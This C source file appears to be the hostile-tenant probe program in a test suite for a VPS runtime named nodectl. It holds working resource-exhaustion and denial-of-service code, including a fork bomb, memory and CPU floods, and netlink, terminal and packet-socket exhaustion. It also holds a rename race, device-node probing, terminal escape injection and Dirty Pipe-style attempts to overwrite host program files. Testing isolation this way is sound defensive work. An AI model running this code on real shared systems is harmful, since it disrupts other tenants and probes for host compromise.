/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * What a hostile root runs in his VPS, one attack a word.  Linked statically, knows nothing of
 * nodectl.  It says what it has got; whether that is too much the scripts decide.
 */
#include <arpa/inet.h>
#include <dirent.h>
#include <elf.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/aio_abi.h>
#include <linux/capability.h>
#include <linux/fs.h>
#include <linux/if_packet.h>
#include <linux/netlink.h>
#include <linux/pkt_sched.h>
#include <linux/rtnetlink.h>
#include <linux/veth.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <net/if_arp.h>
#include <poll.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/pidfd.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/timerfd.h>
#include <sys/timex.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static double now(void)
{
	struct timespec at;

	clock_gettime(CLOCK_MONOTONIC, &at);
	return (double)at.tv_sec + (double)at.tv_nsec / 1e9;
}

static void hold(long seconds)
{
	fflush(stdout);
	sleep((unsigned)seconds);
}

/* swap A B SECONDS: exchange two names as fast as it goes */
static volatile sig_atomic_t enough;

static void stop_it(int number)
{
	enough = number;
}

static int cmd_swap(char *argv[])
{
	double end = now() + atof(argv[2]);
	long count = 0;

	signal(SIGTERM, stop_it);
	while (!enough && now() < end) {
		for (int i = 0; i < 256; i++)
			count += renameat2(AT_FDCWD, argv[0], AT_FDCWD, argv[1],
					   RENAME_EXCHANGE) == 0;
	}
	printf("%ld\n", count);
	return 0;
}

/* ---- what can be written */

static void name_print(const char *path)
{
	bool digit = false;

	for (; *path; path++) {
		bool is = *path >= '0' && *path <= '9';

		if (is && !digit)
			putchar('N');
		else if (!is)
			putchar(*path);
		digit = is;
	}
	putchar('\n');
}

static void walk(const char *path, dev_t device)
{
	DIR *dir = opendir(path);
	struct dirent *entry;

	while (dir && (entry = readdir(dir))) {
		struct stat stat;
		char name[4096];
		int fd;

		if (!strcmp(entry->d_name, ".") || !strcmp(entry->d_name, ".."))
			continue;
		if (snprintf(name, sizeof(name), "%s/%s", path, entry->d_name) >=
			(int)sizeof(name) ||
		    lstat(name, &stat) < 0)
			continue;
		/* processes are the tenant's own, and other mounts are looked at by themselves
		 */
		if (S_ISDIR(stat.st_mode) && stat.st_dev == device) {
			if (!(strcmp(path, "/proc") == 0 && atoi(entry->d_name) > 0))
				walk(name, device);
			if (access(name, W_OK) == 0) {
				printf("dir ");
				name_print(name);
			}
		}
		if (!S_ISREG(stat.st_mode))
			continue;
		fd = open(name, O_WRONLY | O_NONBLOCK | O_NOCTTY);
		if (fd >= 0)
			name_print(name);
		if (fd >= 0)
			close(fd);
	}
	if (dir)
		closedir(dir);
}

/* walk DIRECTORY...: each file below that opens for writing */
static int cmd_walk(char *argv[])
{
	for (; *argv; argv++) {
		struct stat stat;

		if (lstat(*argv, &stat) == 0)
			walk(*argv, stat.st_dev);
	}
	return 0;
}

/* nodes DIRECTORY [shut]: how many device nodes of all there are can be made there, or opened;
 * who may open them does not, for it means something to some to be opened */
static int cmd_nodes(char *argv[])
{
	long made = 0, opened = 0, tried = 0;

	if (chdir(argv[0]) < 0)
		return 1;
	for (unsigned major = 0; major < 512; major++) {
		for (unsigned minor = 0; minor < 256; minor += minor < 16 ? 1 : 16) {
			for (int block = 0; block < 2; block++) {
				mode_t type = block ? S_IFBLK : S_IFCHR;

				tried++;
				/* c 0:0 is no device: overlayfs makes it to say that nothing is
				 * there */
				if (mknod("node", type | 0666, makedev(major, minor)) < 0 ||
				    (!block && !major && !minor)) {
					unlink("node");
					continue;
				}
				made++;
				if (!argv[1])
					opened +=
					    open("node", O_RDONLY | O_NONBLOCK | O_NOCTTY) >= 0;
				unlink("node");
			}
		}
	}
	printf("%ld tried, %ld made, %ld opened\n", tried, made, opened);
	return 0;
}

/* ---- control groups */

/* v1: each controller mounted, by itself and with its fellows */
static int cmd_groups(char *argv[])
{
	static const char *const kinds[] = { "memory",		 "cpu,cpuacct", "cpu",
					     "cpuacct",		 "cpuset",	"pids",
					     "devices",		 "freezer",	"blkio",
					     "hugetlb",		 "perf_event",	"net_cls",
					     "net_cls,net_prio", "rdma",	"misc",
					     "name=systemd",	 "name=mine",	"none,name=x" };

	for (size_t i = 0; i < sizeof(kinds) / sizeof(kinds[0]); i++) {
		char path[128];

		snprintf(path, sizeof(path), "%s/v1-%zu", argv[0], i);
		mkdir(path, 0755);
		if (mount("cgroup", path, "cgroup", 0, kinds[i]) == 0)
			printf("%s\n", path);
		else
			rmdir(path);
	}
	return 0;
}

/* ---- signals */

static int cmd_signals(char *argv[])
{
	long from = atol(argv[0]), to = atol(argv[1]), reached = 0;

	for (long pid = from; pid < to; pid++)
		reached += kill((pid_t)pid, 0) == 0;
	printf("%ld\n", reached);
	return 0;
}

static int cmd_name(char *argv[])
{
	(void)argv;
	prctl(PR_SET_NAME, "\033[2Jx\233\a");
	hold(600);
	return 0;
}

/* ---- pools: take all there is of something, say how much, hold it */

static long terminals_take(void)
{
	long count = 0;
	int fd;

	/* not the VPS's own devpts, which has a bound: a new one */
	mkdir("/mnt/pts", 0755);
	(void)mount("devpts", "/mnt/pts", "devpts", 0, "newinstance,ptmxmode=666,max=1048576");
	while ((fd = open("/mnt/pts/ptmx", O_RDWR | O_NOCTTY)) >= 0)
		count++;
	return count;
}

static long aio_take(void)
{
	aio_context_t context = 0;
	long count = 0;

	while (syscall(SYS_io_setup, 128, &context) == 0) {
		count++;
		context = 0;
	}
	return count;
}

static long inotify_take(void)
{
	long count = 0;

	while (inotify_init1(0) >= 0)
		count++;
	return count;
}

static long namespaces_take(void)
{
	long count = 0;

	while (unshare(CLONE_NEWUTS) == 0 && open("/proc/self/ns/uts", O_RDONLY) >= 0)
		count++;
	return count;
}

static long processes_take(void)
{
	long count = 0;
	pid_t pid;

	while ((pid = fork()) > 0)
		count++;
	if (pid == 0) {
		pause();
		_exit(0);
	}
	return count;
}

static void *sleeper(void *arg)
{
	pause();
	return arg;
}

static long threads_take(void)
{
	pthread_attr_t small;
	pthread_t thread;
	long count = 0;

	pthread_attr_init(&small);
	pthread_attr_setstacksize(&small, 16384);
	while (pthread_create(&thread, &small, sleeper, NULL) == 0)
		count++;
	return count;
}

static long files_take(void)
{
	long count = 0;

	while (open("/dev/null", O_RDONLY) >= 0)
		count++;
	return count;
}

static long locks_take(void)
{
	int fd = open("/tmp/locks", O_RDWR | O_CREAT, 0600);
	long count = 0;

	for (; count < 100000; count++) {
		struct flock lock = { F_WRLCK, SEEK_SET, 2 * count, 1, 0 };

		if (fcntl(fd, F_SETLK, &lock) < 0)
			break;
	}
	return count;
}

static const struct {
	const char *name;
	long (*take)(void);
} pools[] = {
	{ "terminals", terminals_take }, { "aio", aio_take },
	{ "inotify", inotify_take },	 { "uts", namespaces_take },
	{ "forks", processes_take },	 { "threads", threads_take },
	{ "files", files_take },	 { "locks", locks_take },
};

/* take WHAT SECONDS */
static int cmd_take(char *argv[])
{
	for (size_t i = 0; i < sizeof(pools) / sizeof(pools[0]); i++) {
		if (strcmp(pools[i].name, argv[0]) == 0) {
			printf("%ld\n", pools[i].take());
			hold(atol(argv[1]));
		}
	}
	return 0;
}

/* some WHAT COUNT: how many of that many are to be had, each given back at once */
static int cmd_some(char *argv[])
{
	long wanted = atol(argv[1]), got = 0;
	const char *what = argv[0];

	for (long i = 0; i < wanted; i++) {
		aio_context_t context = 0;
		int fd = -1;

		if (!strcmp(what, "terminals"))
			fd = open("/dev/ptmx", O_RDWR | O_NOCTTY);
		else if (!strcmp(what, "inotify"))
			fd = inotify_init1(0);
		else if (!strcmp(what, "files"))
			fd = open("/dev/null", O_RDONLY);
		else if (!strcmp(what, "aio") && syscall(SYS_io_setup, 16, &context) == 0)
			syscall(SYS_io_destroy, context), got++;
		else if (!strcmp(what, "uts") || !strcmp(what, "forks") ||
			 !strcmp(what, "threads") || !strcmp(what, "locks")) {
			pid_t pid = fork();
			int status = 1;

			if (pid == 0) {
				struct flock lock = { F_WRLCK, SEEK_SET, i, 1, 0 };

				fd = open("/tmp/some", O_RDWR | O_CREAT, 0600);
				_exit(unshare(CLONE_NEWUTS) < 0 ||
				      fcntl(fd, F_SETLK, &lock) < 0);
			}
			if (pid > 0 && waitpid(pid, &status, 0) == pid)
				got += status == 0;
		}
		got += fd >= 0;
		if (fd >= 0)
			close(fd);
	}
	printf("%ld\n", got);
	return 0;
}

/* What a root has in a user namespace of his own: other ids, another network. */
static int nest(void)
{
	int map;

	if (unshare(CLONE_NEWUSER | CLONE_NEWNET) < 0 ||
	    (map = open("/proc/self/uid_map", O_WRONLY)) < 0)
		return -1;
	return write(map, "0 0 1", 5) == 5 ? 0 : -1;
}

/* neighbours COUNT [DEVICE]: permanent entries, thousands in a message; with lo in namespaces
 * of its own, by IPv6.  Says how long it took, and what ended it. */
#define MESSAGE 3000
static int cmd_neighbours(char *argv[])
{
	static struct entry {
		struct nlmsghdr head;
		struct ndmsg neighbour;
		struct rtattr to;
		unsigned address[4];
		struct rtattr at;
		unsigned char mac[8];
	} entries[MESSAGE];
	const char *device = argv[1] ? argv[1] : "eth0";
	bool nested = strcmp(device, "lo") == 0;
	unsigned count = (unsigned)atol(argv[0]), here;
	double began = now();

	if (nested && nest() < 0)
		return 1;
	int fd = socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE);

	errno = 0;
	for (unsigned done = 0; done < count && !errno; done += here) {
		here = count - done < MESSAGE ? count - done : MESSAGE;
		memset(entries, 0, sizeof(entries));
		for (unsigned i = 0; i < here; i++) {
			struct entry *entry = &entries[i];

			entry->head = (struct nlmsghdr){ sizeof(*entry), RTM_NEWNEIGH,
							 NLM_F_REQUEST | NLM_F_CREATE, 0, 0 };
			entry->neighbour =
			    (struct ndmsg){ .ndm_family = nested ? AF_INET6 : AF_INET,
					    .ndm_ifindex = (int)if_nametoindex(device),
					    .ndm_state = NUD_PERMANENT };
			entry->to = (struct rtattr){ RTA_LENGTH(nested ? 16 : 4), NDA_DST };
			/* what IPv4 does not need is an attribute of no kind */
			memcpy(&entry->address[1], &(struct rtattr){ 12, NDA_UNSPEC },
			       sizeof(struct rtattr));
			entry->address[0] =
			    htonl(nested ? 0xfd0b0000u : 0x0b000000u + done + i);
			entry->address[3] = htonl(done + i);
			entry->at = (struct rtattr){ RTA_LENGTH(6), NDA_LLADDR };
		}
		(void)send(fd, entries, here * sizeof(entries[0]), 0);
	}
	printf("%.3f %s\n", now() - began, errno ? strerror(errno) : "all");
	return errno != 0;
}

/* arp COUNT: the same without netlink */
static int cmd_arp(char *argv[])
{
	int fd = socket(AF_INET, SOCK_DGRAM, 0), count = atoi(argv[0]), i;

	for (i = 0; i < count; i++) {
		struct arpreq request = { .arp_pa.sa_family = AF_INET,
					  .arp_ha.sa_family = ARPHRD_ETHER,
					  .arp_flags = ATF_PERM | ATF_COM,
					  .arp_dev = "eth0" };

		((struct sockaddr_in *)&request.arp_pa)->sin_addr.s_addr =
		    htonl(0x0c000000u + (unsigned)i);
		if (ioctl(fd, SIOCSARP, &request) < 0)
			break;
	}
	printf("%d %s\n", i, i < count ? strerror(errno) : "all");
	return i < count;
}

/* helper COUNT: permanent entries of a network namespace of a child's, by its socket and
 * without any capability here.  Done when they are refused, or made. */
static int cmd_helper(char *argv[])
{
	int ends[2], fd, count = atoi(argv[0]);
	char byte = 0, control[CMSG_SPACE(sizeof(fd))] = { 0 };
	struct iovec iov = { &byte, 1 };
	struct msghdr message = { .msg_iov = &iov,
				  .msg_iovlen = 1,
				  .msg_control = control,
				  .msg_controllen = sizeof(control) };
	struct cmsghdr *carried = CMSG_FIRSTHDR(&message);
	struct __user_cap_header_struct head = { _LINUX_CAPABILITY_VERSION_3, 0 };
	struct __user_cap_data_struct none[2] = { 0 };

	if (socketpair(AF_UNIX, SOCK_STREAM, 0, ends) < 0)
		return 1;
	if (fork() == 0) {
		if (nest() < 0)
			_exit(1);
		fd = socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE);
		carried->cmsg_level = SOL_SOCKET;
		carried->cmsg_type = SCM_RIGHTS;
		carried->cmsg_len = CMSG_LEN(sizeof(fd));
		memcpy(CMSG_DATA(carried), &fd, sizeof(fd));
		(void)!sendmsg(ends[1], &message, 0);
		pause();
	}
	if (recvmsg(ends[0], &message, 0) != 1)
		return 1;
	memcpy(&fd, CMSG_DATA(carried), sizeof(fd));
	if (syscall(SYS_capset, &head, none) < 0)
		return 1;
	for (int i = 0; i < count; i++) {
		struct {
			struct nlmsghdr head;
			struct ndmsg neighbour;
			struct rtattr to;
			unsigned address[4];
		} entry = { { sizeof(entry), RTM_NEWNEIGH, NLM_F_REQUEST | NLM_F_CREATE, 0, 0 },
			    { .ndm_family = AF_INET6,
			      .ndm_ifindex = 1,
			      .ndm_state = NUD_PERMANENT },
			    { RTA_LENGTH(16), NDA_DST },
			    { htonl(0xfd0c0000u), 0, 0, htonl((unsigned)i) } };

		if (send(fd, &entry, sizeof(entry), 0) < 0)
			break;
	}
	puts("done");
	fflush(stdout);
	pause();
	return 0;
}

/* A message that is being written. */
struct message {
	struct nlmsghdr head;
	char body[1 << 18];
};

static void *message_add(struct message *message, const void *data, size_t length)
{
	void *at = (char *)message + message->head.nlmsg_len;

	memcpy(at, data, length);
	message->head.nlmsg_len += (unsigned)NLMSG_ALIGN(length);
	return at;
}

static struct rtattr *message_put(struct message *message, int type, const void *value,
				  size_t length)
{
	struct rtattr head = { (unsigned short)RTA_LENGTH(length), (unsigned short)type };
	struct rtattr *at = message_add(message, &head, sizeof(head));

	if (length)
		message_add(message, value, length);
	return at;
}

/* All that was added since is inside of it. */
static void message_close(struct message *message, struct rtattr *nest)
{
	nest->rta_len =
	    (unsigned short)((char *)message + message->head.nlmsg_len - (char *)nest);
}

/* Sent, and answered: 0, or what the kernel says. */
static int message_send(int fd, struct message *message)
{
	struct {
		struct nlmsghdr head;
		struct nlmsgerr said;
		char more[1200];
	} answer;

	message->head.nlmsg_flags |= NLM_F_REQUEST | NLM_F_ACK;
	if (send(fd, message, message->head.nlmsg_len, 0) < 0)
		return errno;
	return recv(fd, &answer, sizeof(answer), 0) < 0 ? errno : -answer.said.error;
}

/* Each process has its own. */
static int veth_name(char name[IFNAMSIZ], int n)
{
	return snprintf(name, IFNAMSIZ, "q%d.%d", (int)getpid() % 100000, n % 10000);
}

/* Attributes that say nothing. */
#define NOTHINGS 40000

static int veth_make(int fd, int n, unsigned places, bool other, bool behind)
{
	static struct message message;
	struct ifinfomsg nothing = { 0 };
	struct rtattr *info, *data, *peer;
	char name[IFNAMSIZ];

	message.head = (struct nlmsghdr){ .nlmsg_len = NLMSG_HDRLEN,
					  .nlmsg_type = RTM_NEWLINK,
					  .nlmsg_flags = NLM_F_CREATE | NLM_F_EXCL };
	message_add(&message, &nothing, sizeof(nothing));
	for (int i = 0; behind && i < NOTHINGS; i++)
		message_put(&message, IFLA_UNSPEC, NULL, 0);
	message_put(&message, IFLA_IFNAME, name, (size_t)veth_name(name, n) + 1);
	if (!other)
		message_put(&message, IFLA_NUM_TX_QUEUES, &places, sizeof(places));
	info = message_put(&message, IFLA_LINKINFO, NULL, 0);
	message_put(&message, IFLA_INFO_KIND, "veth", 4);
	data = message_put(&message, IFLA_INFO_DATA, NULL, 0);
	peer = message_put(&message, VETH_INFO_PEER, NULL, 0);
	message_add(&message, &nothing, sizeof(nothing));
	name[0] = 'o';
	message_put(&message, IFLA_IFNAME, name, strlen(name) + 1);
	if (other)
		message_put(&message, IFLA_NUM_TX_QUEUES, &places, sizeof(places));
	message_close(&message, peer);
	message_close(&message, data);
	message_close(&message, info);
	return message_send(fd, &message);
}

static int queue_make(int fd, int n, const char *kind)
{
	static struct message message;
	struct tcmsg place = { .tcm_parent = TC_H_ROOT };
	char name[IFNAMSIZ];

	message.head = (struct nlmsghdr){ .nlmsg_len = NLMSG_HDRLEN,
					  .nlmsg_type = RTM_NEWQDISC,
					  .nlmsg_flags = NLM_F_CREATE | NLM_F_REPLACE };
	veth_name(name, n);
	place.tcm_ifindex = (int)if_nametoindex(name);
	message_add(&message, &place, sizeof(place));
	message_put(&message, TCA_KIND, kind, strlen(kind) + 1);
	return message_send(fd, &message);
}

static int length_set(int fd, const char *device, unsigned packets)
{
	struct ifinfomsg place = { .ifi_index = (int)if_nametoindex(device) };
	static struct message message;

	message.head =
	    (struct nlmsghdr){ .nlmsg_len = NLMSG_HDRLEN, .nlmsg_type = RTM_NEWLINK };
	message_add(&message, &place, sizeof(place));
	message_put(&message, IFLA_TXQLEN, &packets, sizeof(packets));
	return message_send(fd, &message);
}

/* queues COUNT PLACES [other|behind]: so many interfaces with places for queues, all taken; at
 * the other end of each, or named at the end of a long message.  Says how many there were, and
 * what ended it. */
static int cmd_queues(char *argv[])
{
	int fd = socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE), count = atoi(argv[0]);
	int failed = 0, room = 1 << 20, i;
	unsigned places = (unsigned)atoi(argv[1]);
	bool other = argv[2] && strcmp(argv[2], "other") == 0;

	(void)setsockopt(fd, SOL_SOCKET, SO_SNDBUF, &room, sizeof(room));
	for (i = 0; i < count; i++) {
		failed = veth_make(fd, i, places, other, argv[2] && !other);
		if (!failed && !other)
			failed = queue_make(fd, i, places > 1 ? "mq" : "pfifo_fast");
		if (failed)
			break;
	}
	printf("%d %s\n", i, failed ? strerror(failed) : "all");
	return failed != 0;
}

/* length PACKETS [ioctl]: so many may wait at lo. */
static int cmd_length(char *argv[])
{
	unsigned packets = (unsigned)atoi(argv[0]);
	struct ifreq asked = { .ifr_name = "lo", .ifr_qlen = (int)packets };
	int failed;

	if (argv[1])
		failed = ioctl(socket(AF_INET, SOCK_DGRAM, 0), SIOCSIFTXQLEN, &asked) < 0
			     ? errno
			     : 0;
	else
		failed = length_set(socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE), "lo", packets);
	puts(failed ? strerror(failed) : "taken");
	return failed != 0;
}

/* toggle COUNT: eth0 promiscuous and back.  Says how often, and what ended it. */
static int cmd_toggle(char *argv[])
{
	int fd = socket(AF_INET, SOCK_DGRAM, 0), count = atoi(argv[0]), i;
	struct ifreq asked = { .ifr_name = "eth0" };

	if (ioctl(fd, SIOCGIFFLAGS, &asked) < 0)
		return 1;
	for (i = 0; i < count; i++) {
		asked.ifr_flags ^= IFF_PROMISC;
		if (ioctl(fd, SIOCSIFFLAGS, &asked) < 0)
			break;
	}
	printf("%d %s\n", i, i < count ? strerror(errno) : "all");
	return i < count;
}

/* ---- what the kernel keeps for an option of a socket */

/* for which no room has to be found */
#define BLOCK (1u << 16)

static int ring_ask(int fd, unsigned kib, unsigned option, size_t length, unsigned block)
{
	/* longer than a page, most of which is nothing */
	static union {
		struct tpacket_req3 request;
		char room[8192];
	} asked;
	int version = TPACKET_V3;

	asked.request = (struct tpacket_req3){ .tp_block_size = block,
					       .tp_block_nr = kib / (block >> 10),
					       .tp_frame_size = 1 << 11 };
	asked.request.tp_frame_nr = (block >> 11) * asked.request.tp_block_nr;
	(void)setsockopt(fd, SOL_PACKET, PACKET_VERSION, &version, sizeof(version));
	return setsockopt(fd, SOL_PACKET, (int)option, &asked, (socklen_t)length);
}

/* rings COUNT KIB [close|nested|twice|long|odd|stay]: as many packet sockets with a ring of so
 * much each; each closed before the next, in namespaces of its own, each with one to send from
 * as well, asked for with too long an option, in blocks of no power of two, and then it stays.
 * Says how many there were, and what ended it. */
static int cmd_rings(char *argv[])
{
	int count = atoi(argv[0]), i;
	unsigned kib = (unsigned)atoi(argv[1]);
	const char *how = argv[2] ? argv[2] : "";
	size_t length = strcmp(how, "long") == 0 ? 8192 : sizeof(struct tpacket_req3);
	/* for which the kernel takes four MiB */
	unsigned block = strcmp(how, "odd") == 0 ? 2052 << 10 : BLOCK;

	if (strcmp(how, "nested") == 0 && nest() < 0)
		return 1;
	for (i = 0; i < count; i++) {
		int fd = socket(AF_PACKET, SOCK_RAW, 0);

		if (fd < 0 || ring_ask(fd, kib, PACKET_RX_RING, length, block) < 0 ||
		    (strcmp(how, "twice") == 0 &&
		     ring_ask(fd, kib, PACKET_TX_RING, length, BLOCK) < 0))
			break;
		if (strcmp(how, "close") == 0)
			close(fd);
	}
	printf("%d %s\n", i, i < count ? strerror(errno) : "all");
	fflush(stdout);
	if (strcmp(how, "stay") == 0)
		pause();
	return i < count;
}

/* again KIB: a ring that is mapped cannot be given back, and to have tried changes nothing.
 * Says whether another socket may have one as large. */
static int cmd_again(char *argv[])
{
	unsigned kib = (unsigned)atoi(argv[0]);
	size_t length = sizeof(struct tpacket_req3);
	int fd = socket(AF_PACKET, SOCK_RAW, 0), other = socket(AF_PACKET, SOCK_RAW, 0);

	if (ring_ask(fd, kib, PACKET_RX_RING, length, BLOCK) < 0 ||
	    mmap(NULL, kib * 1024ul, PROT_READ, MAP_SHARED, fd, 0) == MAP_FAILED)
		return 1;
	printf("%s ", ring_ask(fd, 0, PACKET_RX_RING, length, BLOCK) < 0 ? strerror(errno)
									 : "released");
	(void)ring_ask(fd, 64, PACKET_RX_RING, length, BLOCK);
	printf("%s\n", ring_ask(other, kib, PACKET_RX_RING, length, BLOCK) < 0 ? strerror(errno)
									       : "another");
	return 0;
}

/* nobody: rings and memberships asked of a socket that has none, without any capability. */
static int cmd_nobody(char *argv[])
{
	int fd, got = 0;

	(void)argv;
	if (setgid(65534) < 0 || setuid(65534) < 0)
		return 1;
	fd = socket(AF_INET, SOCK_DGRAM, 0);
	for (int i = 0; i < 100; i++) {
		struct packet_mreq all = { .mr_type = PACKET_MR_PROMISC };

		got +=
		    ring_ask(fd, 1024, PACKET_RX_RING, sizeof(struct tpacket_req3), BLOCK) == 0;
		got +=
		    setsockopt(fd, SOL_PACKET, PACKET_ADD_MEMBERSHIP, &all, sizeof(all)) == 0;
	}
	puts(got ? "taken" : "refused");
	return 0;
}

static void *ring_race(void *kib)
{
	int fd = socket(AF_PACKET, SOCK_RAW, 0);

	return ring_ask(fd, *(unsigned *)kib, PACKET_RX_RING, sizeof(struct tpacket_req3),
			BLOCK) == 0
		   ? kib
		   : NULL;
}

/* race COUNT KIB: so many threads at once ask for a ring.  Says how many got one. */
static int cmd_race(char *argv[])
{
	unsigned kib = (unsigned)atoi(argv[1]);
	pthread_t threads[256];
	int count = atoi(argv[0]), made = 0, got = 0;
	void *one;

	while (made < count && made < 256 &&
	       pthread_create(&threads[made], NULL, ring_race, &kib) == 0)
		made++;
	for (int i = 0; i < made; i++)
		got += pthread_join(threads[i], &one) == 0 && one;
	printf("%d\n", got);
	return 0;
}

/* joins COUNT HOW: memberships in so many multicast groups, of IPv6 or of packets (promiscuous,
 * given back each time).  Says how many there were, and what ended it. */
static int cmd_joins(char *argv[])
{
	bool packets = strcmp(argv[1], "packets") == 0;
	int count = atoi(argv[0]), index = (int)if_nametoindex("eth0"), i;
	int fd = -1;

	for (i = 0; i < count; i++) {
		struct ipv6_mreq group = { .ipv6mr_interface = (unsigned)index };
		struct packet_mreq all = { .mr_ifindex = index, .mr_type = PACKET_MR_PROMISC };

		/* none has room for more options than this */
		if (i % 100 == 0)
			fd = socket(packets ? AF_PACKET : AF_INET6, SOCK_DGRAM, 0);
		group.ipv6mr_multiaddr.s6_addr[0] = 0xff;
		group.ipv6mr_multiaddr.s6_addr[1] = 0x02;
		memcpy(&group.ipv6mr_multiaddr.s6_addr[12], &i, sizeof(i));
		if (packets ? setsockopt(fd, SOL_PACKET, PACKET_ADD_MEMBERSHIP, &all,
					 sizeof(all)) < 0
			    : setsockopt(fd, IPPROTO_IPV6, IPV6_JOIN_GROUP, &group,
					 sizeof(group)) < 0)
			break;
	}
	printf("%d %s\n", i, i < count ? strerror(errno) : "all");
	return i < count;
}

/* fanout MEMBERS: room in a group of packet sockets for so many. */
static int cmd_fanout(char *argv[])
{
	struct fanout_args asked = { .id = 7, .max_num_members = (unsigned)atoi(argv[0]) };
	struct sockaddr_ll here = { .sll_family = AF_PACKET,
				    .sll_protocol = htons(ETH_P_ALL),
				    .sll_ifindex = (int)if_nametoindex("eth0") };
	int fd = socket(AF_PACKET, SOCK_RAW, 0);

	if (bind(fd, (struct sockaddr *)&here, sizeof(here)) < 0)
		return 1;
	puts(setsockopt(fd, SOL_PACKET, PACKET_FANOUT, &asked, sizeof(asked)) < 0
		 ? strerror(errno)
		 : "made");
	return 0;
}

/* option: one that is longer than a page, of which only the beginning counts. */
static int cmd_option(char *argv[])
{
	static const char device[8192] = "lo";
	int fd = socket(AF_INET, SOCK_DGRAM, 0);

	(void)argv;
	puts(setsockopt(fd, SOL_SOCKET, SO_BINDTODEVICE, device, sizeof(device)) < 0
		 ? strerror(errno)
		 : "taken");
	return 0;
}

/* ---- floods: without end, until killed */

static int cmd_flood(char *argv[])
{
	const char *what = argv[0];
	char text[65536];
	int fd;

	memset(text, 'x', sizeof(text));
	if (!strcmp(what, "forks")) {
		for (;;)
			fork();
	} else if (!strcmp(what, "memory")) {
		for (;;) {
			char *page = mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE,
					  MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
			if (page != MAP_FAILED)
				memset(page, 1, 1 << 20);
		}
	} else if (!strcmp(what, "cpu")) {
		for (int i = 0; i < 8; i++)
			if (fork() == 0)
				break;
		for (;;)
			;
	} else if (!strcmp(what, "namespaces")) {
		for (;;) {
			pid_t pid = fork();

			if (pid == 0)
				_exit(unshare(CLONE_NEWNET));
			waitpid(pid, NULL, 0);
		}
	} else {
		/* a file: written from its beginning again and again, and synced where it can
		 * be */
		fd = open(what, O_WRONLY | O_CREAT | O_NOCTTY, 0600);
		for (;;) {
			if (write(fd, text, sizeof(text)) < 0 ||
			    lseek(fd, 0, SEEK_CUR) > 1 << 24)
				lseek(fd, 0, SEEK_SET);
			(void)fdatasync(fd);
		}
	}
	return 0;
}

/* ---- the runtime's own programs (SECURITY.md E1), and files that others read as well (K1) */

/* Each way to change what @fd leads to; says which of them the kernel took.  @reopen: by
 * /proc/self/fd too, which on an overlay makes a copy of the tenant's own. */
static long change(int fd, bool reopen, bool say)
{
	char self[64], byte = 'x';
	int pipes[2], flags = 0;
	struct stat stat;
	long taken = 0;
	void *page;

#define TRY(what, expr)                                                                        \
	do {                                                                                   \
		if (expr) {                                                                    \
			taken++;                                                               \
			if (say)                                                               \
				printf("%s ", what);                                           \
		}                                                                              \
	} while (0)
	if (fstat(fd, &stat) < 0 || pipe(pipes) < 0)
		return 0;
	snprintf(self, sizeof(self), "/proc/self/fd/%d", fd);
	TRY("write", pwrite(fd, &byte, 1, 0) == 1);
	TRY("ftruncate", ftruncate(fd, stat.st_size + 1) == 0);
	TRY("fallocate", fallocate(fd, 0, 0, 4096) == 0);
	TRY("punch", fallocate(fd, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, 4096) == 0);
	page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	TRY("mmap", page != MAP_FAILED);
	page = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);
	if (page != MAP_FAILED) {
		int memory = open("/proc/self/mem", O_RDWR);

		TRY("mprotect", mprotect(page, 4096, PROT_READ | PROT_WRITE) == 0);
		TRY("memory", pwrite(memory, &byte, 1, (off_t)page) == 1);
		TRY("remove", madvise(page, 4096, MADV_REMOVE) == 0);
		close(memory);
		munmap(page, 4096);
	}
	/* a page of the file in a pipe, and then more into the pipe: what Dirty Pipe was */
	loff_t from = 0, at = 0;
	if (splice(fd, &from, pipes[1], NULL, 1, 0) == 1) {
		(void)!write(pipes[1], "poison", 6);
		TRY("splice", splice(pipes[0], NULL, fd, &at, 1, 0) == 1);
	}
	struct iovec piece = { &byte, 1 };
	if (vmsplice(pipes[1], &piece, 1, SPLICE_F_GIFT) == 1)
		TRY("vmsplice", splice(pipes[0], NULL, fd, &at, 1, 0) == 1);
	TRY("copy", copy_file_range(fd, &from, fd, &at, 1, 0) == 1);
	if (reopen) {
		static const int ways[] = { O_WRONLY, O_RDWR, O_WRONLY | O_DIRECT,
					    O_APPEND | O_RDWR };

		for (size_t i = 0; i < sizeof(ways) / sizeof(ways[0]); i++) {
			int again = open(self, ways[i] | O_CLOEXEC);

			TRY("open", again >= 0);
			if (again >= 0)
				close(again);
		}
		TRY("truncate", truncate(self, stat.st_size) == 0);
		TRY("chmod", fchmod(fd, stat.st_mode | 0002) == 0);
		TRY("chown", fchown(fd, 0, 0) == 0);
		TRY("flags",
		    ioctl(fd, FS_IOC_GETFLAGS, &flags) == 0 &&
			(flags |= FS_NODUMP_FL, ioctl(fd, FS_IOC_SETFLAGS, &flags) == 0));
		TRY("lease", fcntl(fd, F_SETLEASE, F_RDLCK) == 0);
	}
	close(pipes[0]);
	close(pipes[1]);
	return taken;
}

/* reopen FD SECONDS: a descriptor of a program that ran, when nobody runs it any more too */
static int cmd_reopen(char *argv[])
{
	double end = now() + atof(argv[1]);
	int fd = atoi(argv[0]);
	struct stat stat;
	long taken = 0;

	if (fstat(fd, &stat) < 0)
		return 1;
	do {
		taken += change(fd, true, false);
		usleep(1000);
	} while (now() < end);
	printf("%lld bytes, changed %ld\n", (long long)stat.st_size, taken);
	return 0;
}

/*
 * The program that the kernel starts first in whatever is linked dynamically, ld.so, is the
 * VPS's.  It runs before anything is set up: system calls alone, and none that fails.
